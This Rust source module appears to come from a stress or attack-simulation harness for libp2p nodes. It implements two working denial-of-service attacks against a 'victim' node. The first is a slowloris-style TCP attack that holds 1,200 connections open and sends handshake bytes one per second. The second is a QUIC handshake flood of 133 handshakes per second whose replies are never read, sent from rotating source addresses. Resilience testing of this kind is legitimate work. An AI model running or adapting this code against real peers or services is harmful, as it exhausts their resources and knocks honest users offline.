//! Handshakes that are never finished.

use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

use anyhow::Result;
use libp2p::identity::Keypair;
use tokio::io::AsyncWriteExt as _;
use tokio::net::UdpSocket;

use super::connection::{Quic, source, tcp_socket};
use super::peer::{Attacker, TURNED_AWAY, lanes};
use super::stream::{HEADER, line};

/// TCP connections at once.
const TCP_CONNECTIONS: usize = 1_200;
/// Between two bytes of a handshake.
const DRIBBLE: Duration = Duration::from_secs(1);
/// QUIC handshakes begun each second. Each client sends its first flight again after 1, 3 and 7 s, and is a new one
/// each time to a node that has given it up meanwhile.
const QUIC_HANDSHAKES_PER_SECOND: u32 = 133;
/// Handshakes at once.
const QUIC_HANDSHAKES: usize = 2_000;
/// Larger than any datagram of a handshake.
const DATAGRAM_BYTES: usize = 2_048;

/// Connects and says the first line of the negotiation a byte at a time.
pub(super) async fn tcp(attacker: &Attacker) {
    lanes(TCP_CONNECTIONS, async |lane| {
        loop {
            attacker.on_tried();
            if let Ok(mut stream) = tcp_socket(attacker.source(lane), attacker.victim.tcp).await {
                attacker.on_taken();
                for byte in line(HEADER) {
                    if stream.write_all(&[byte]).await.is_err() {
                        break;
                    }
                    tokio::time::sleep(DRIBBLE).await;
                }
            }
            tokio::time::sleep(TURNED_AWAY).await;
        }
    })
    .await;
}

/// Begins handshakes and never hears the answer: real clients whose datagrams go through sockets that read nothing.
pub(super) async fn quic(attacker: &Arc<Attacker>) -> Result<()> {
    let sink = Arc::new(UdpSocket::bind((source(0), 0)).await?);
    let to = sink.local_addr()?;
    let forwarding = tokio::spawn(forward(sink, Arc::clone(attacker)));
    let mut client = Quic::bind(source(0), &Keypair::generate_ed25519()).await?;
    let places = Arc::new(tokio::sync::Semaphore::new(QUIC_HANDSHAKES));
    let mut clock = tokio::time::interval(Duration::from_secs(1) / QUIC_HANDSHAKES_PER_SECOND);
    while !forwarding.is_finished() {
        clock.tick().await;
        let place = Arc::clone(&places).acquire_owned().await?;
        attacker.on_tried();
        let handshake = client.dial(to)?;
        tokio::spawn(async move {
            // Fails when its time is over, for nobody answers.
            handshake.await.ok();
            drop(place);
        });
    }
    forwarding.await?
}

/// Hands on what clients send, from the attacker's networks in turn, and nothing back.
async fn forward(sink: Arc<UdpSocket>, attacker: Arc<Attacker>) -> Result<()> {
    let mut ways = Vec::new();
    for lane in 0..64 {
        ways.push(UdpSocket::bind(SocketAddr::new(attacker.source(lane), 0)).await?);
    }
    let mut datagram = [0; DATAGRAM_BYTES];
    loop {
        let (length, _) = sink.recv_from(&mut datagram).await?;
        let way = &ways[way_of(&datagram[..length], ways.len())];
        // What the system cannot send is lost, as datagrams are.
        way.send_to(&datagram[..length], attacker.victim.quic).await.ok();
    }
}

/// The datagrams of one handshake go one way: what tells it apart is the connection id that its long header begins
/// with (RFC 9000 §17.2: a byte, the version, the id's length, the id).
fn way_of(datagram: &[u8], ways: usize) -> usize {
    datagram.get(6).map_or(0, |byte| usize::from(*byte) % ways)
}
